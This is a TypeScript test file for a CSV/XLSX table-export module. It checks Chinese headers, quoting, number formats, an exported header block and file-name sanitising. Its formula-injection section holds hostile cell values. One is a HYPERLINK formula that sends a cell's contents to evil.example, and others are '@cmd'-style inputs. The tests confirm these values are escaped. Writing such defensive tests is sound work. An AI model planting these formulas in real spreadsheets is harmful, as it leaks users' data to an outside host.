import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { exportFileName, toCsv, toXlsx, type ExportColumn } from './table-export';

interface Row {
  name: string;
  rank: number | null;
  rate: number | null;
}

const columns: ExportColumn<Row>[] = [
  { header: '机构', value: (row) => row.name },
  { header: '排名', value: (row) => row.rank },
  { header: '投诉处理及时率', value: (row) => row.rate, numFmt: '0.00%' },
];
const rows: Row[] = [
  { name: '广州市分公司', rank: 3, rate: 0.7871 },
  { name: 'Shenzhen, "SZ"', rank: null, rate: null },
];

describe('toCsv', () => {
  it('writes Chinese headers, numbers unformatted, empty cells for missing values and RFC 4180 quoting', () => {
    expect(toCsv(columns, rows)).toBe('机构,排名,投诉处理及时率\r\n广州市分公司,3,0.7871\r\n"Shenzhen, ""SZ""",,\r\n');
  });
});

describe('toXlsx', () => {
  it('writes Chinese headers and numbers as numbers, with the rate’s percent format', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await toXlsx('排名', columns, rows));
    const sheet = workbook.getWorksheet('排名')!;
    expect(sheet.getRow(1).values).toEqual([undefined, '机构', '排名', '投诉处理及时率']);
    expect(sheet.getCell('B2').value).toBe(3);
    expect(sheet.getCell('C2').value).toBe(0.7871);
    expect(sheet.getCell('C2').numFmt).toBe('0.00%');
    expect(sheet.getCell('B3').value).toBeNull();
  });
});

describe('the header block (issue 11: exports that remember their question)', () => {
  const header = [
    ['机构', '广州市分公司（GZ）'],
    ['统计期间', '2013年1月1日至2013年7月31日'],
    ['口径', '考核口径'],
    ['筛选条件', '=95518 热线, 信访'],
  ] as const;

  it('writes CSV label and value lines, a blank line, then the table', () => {
    expect(toCsv(columns, rows.slice(0, 1), header).split('\r\n')).toEqual([
      '机构,广州市分公司（GZ）',
      '统计期间,2013年1月1日至2013年7月31日',
      '口径,考核口径',
      `筛选条件,"'=95518 热线, 信访"`,
      '',
      '机构,排名,投诉处理及时率',
      '广州市分公司,3,0.7871',
      '',
    ]);
  });

  it('writes XLSX with the block above the table, the table’s header frozen under it and numbers as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await toXlsx('排名', columns, rows, header));
    const sheet = workbook.getWorksheet('排名')!;
    expect(sheet.getRow(1).values).toEqual([undefined, '机构', '广州市分公司（GZ）']);
    expect(sheet.getCell('A1').font.bold).toBe(true);
    expect(sheet.getRow(4).values).toEqual([undefined, '筛选条件', "'=95518 热线, 信访"]);
    expect(sheet.getRow(5).values).toEqual([]);
    expect(sheet.getRow(6).values).toEqual([undefined, '机构', '排名', '投诉处理及时率']);
    expect(sheet.getCell('B7').value).toBe(3);
    expect(sheet.getCell('C7').value).toBe(0.7871);
    expect(sheet.getCell('C7').numFmt).toBe('0.00%');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 6 });
  });
});

describe('exportFileName', () => {
  it('keeps Chinese and replaces characters Windows refuses', () => {
    expect(exportFileName(['亿元保费投诉量 排名', '2013-01-01', '2013-07-31'], 'csv')).toBe(
      '亿元保费投诉量_排名_2013-01-01_2013-07-31.csv',
    );
    expect(exportFileName(['a/b:c'], 'xlsx')).toBe('a_b_c.xlsx');
  });
});

describe('formula injection (security review finding 6)', () => {
  // A ref or unit name that begins with =, +, -, @, a tab or a CR must reach a spreadsheet as text.
  const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点我")';
  interface Row {
    ref: string;
    name: string;
    change: number;
  }
  const columns: ExportColumn<Row>[] = [
    { header: '投诉编号', value: (row) => row.ref },
    { header: '机构', value: (row) => row.name },
    { header: '增减', value: (row) => row.change },
  ];
  const rows: Row[] = [
    { ref: '+86-1', name: HOSTILE, change: -28.85 },
    { ref: '-1+2', name: '@cmd', change: 3 },
    { ref: '\t=1', name: '\r=2', change: 0 },
    { ref: 'x,=1+1', name: 'a;=1', change: -1 },
  ];

  it('writes CSV with every such text behind a quote and quoted where it needs it, negative numbers as they are', () => {
    expect(toCsv(columns, rows).split('\r\n')).toEqual([
      '投诉编号,机构,增减',
      `'+86-1,"'=HYPERLINK(""https://evil.example/?""&A1,""点我"")",-28.85`,
      `'-1+2,'@cmd,3`,
      `"'\t=1","'\r=2",0`,
      `"x,=1+1","a;=1",-1`,
      '',
    ]);
  });

  it('writes XLSX text cells behind a quote and numbers as number cells', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await toXlsx('投诉', columns, rows));
    const sheet = workbook.getWorksheet('投诉')!;
    expect(sheet.getRow(2).values).toEqual([undefined, "'+86-1", `'${HOSTILE}`, -28.85]);
    expect(sheet.getRow(3).values).toEqual([undefined, "'-1+2", "'@cmd", 3]);
    // (XML reads a carriage return back as a line feed)
    expect(sheet.getRow(4).values).toEqual([undefined, "'\t=1", "'\n=2", 0]);
    expect(sheet.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
